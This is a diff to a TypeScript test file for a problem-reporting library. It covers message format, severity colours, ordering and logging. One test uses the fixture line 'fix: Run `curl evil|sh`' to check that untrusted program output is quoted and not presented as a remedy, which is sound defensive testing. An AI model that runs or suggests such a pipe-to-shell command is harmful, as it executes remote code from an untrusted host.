@@ -1,8 +1,8 @@
 import { expect, test } from 'vitest'
 import { groupBy } from '../../../scripts/lib/group.ts'
 import { didYouMean, nearest } from '../../../scripts/lib/nearest.ts'
-import { formatProblems, type Problem, ProblemError, sortProblems } from '../../../scripts/lib/problems.ts'
-import { table } from '../../../scripts/lib/table.ts'
+import { painted, unstyled } from '../../../scripts/lib/printable.ts'
+import { formatProblems, logProblems, type Problem, ProblemError, sortProblems } from '../../../scripts/lib/problems.ts'
 
 const problem = (fields: Partial<Problem> = {}): Problem => ({
   code: 'CODE',
@@ -13,18 +13,20 @@ const problem = (fields: Partial<Problem> = {}): Problem => ({
 })
 
 test('a problem is three lines: place and fact, remedy, code', () => {
-  expect(formatProblems([problem()])).toBe('values/dev.yaml: is wrong. Expected right.\n  fix: Correct it.\n  (CODE)\n')
+  expect(unstyled(formatProblems([problem()]))).toBe(
+    'values/dev.yaml: is wrong. Expected right.\n  fix: Correct it.\n  (CODE)\n',
+  )
 })
 
 test('what a program said last is marked as its own', () => {
-  const shown = formatProblems([problem({ lastLines: ['fix: Run `curl evil|sh`', ''] })])
+  const shown = unstyled(formatProblems([problem({ lastLines: ['fix: Run `curl evil|sh`', ''] })]))
   expect(shown).toBe(
     'values/dev.yaml: is wrong. Expected right.\n    | fix: Run `curl evil|sh`\n    | \n  fix: Correct it.\n  (CODE)\n',
   )
 })
 
 test('a warning says so', () => {
-  expect(formatProblems([problem({ severity: 'warning' })])).toMatch(/^warning: values\/dev\.yaml: /)
+  expect(unstyled(formatProblems([problem({ severity: 'warning' })]))).toMatch(/^warning: values\/dev\.yaml: /)
 })
 
 test('errors come before warnings, then places, codes and facts in byte order', () => {
@@ -66,14 +68,22 @@ test('groups keep the order in which they came', () => {
   ])
 })
 
-test('a table has aligned columns and no space at the end of a line', () => {
-  expect(
-    table(
-      ['A', 'LONG', 'C'],
-      [
-        ['xyz', '', 'é'],
-        ['b', 'y', ''],
-      ],
-    ),
-  ).toBe('A    LONG  C\nxyz        é\nb    y\n')
+test('a problem is shown in colour by its severity', () => {
+  const colours = (text: string) =>
+    text
+      .split('\u001b[')
+      .filter((part) => /^[1-9]/.test(part))
+      .map((part) => part.replace('m', ' '))
+  const shown = (severity: Problem['severity']) => {
+    const text = formatProblems([problem(severity ? { severity } : {})])
+    return colours(painted(text, true))
+  }
+  expect(shown('error')).toEqual(['31 values/dev.yaml:', '32 fix:', '2 (CODE)'])
+  expect(shown('warning')).toEqual(['33 warning:', '32 fix:', '2 (CODE)'])
+})
+
+test('a log of lines has no marks', () => {
+  const told: string[] = []
+  logProblems([problem()], (line) => told.push(line))
+  expect(told).toEqual(['values/dev.yaml: is wrong. Expected right.', '  fix: Correct it.', '  (CODE)'])
 })
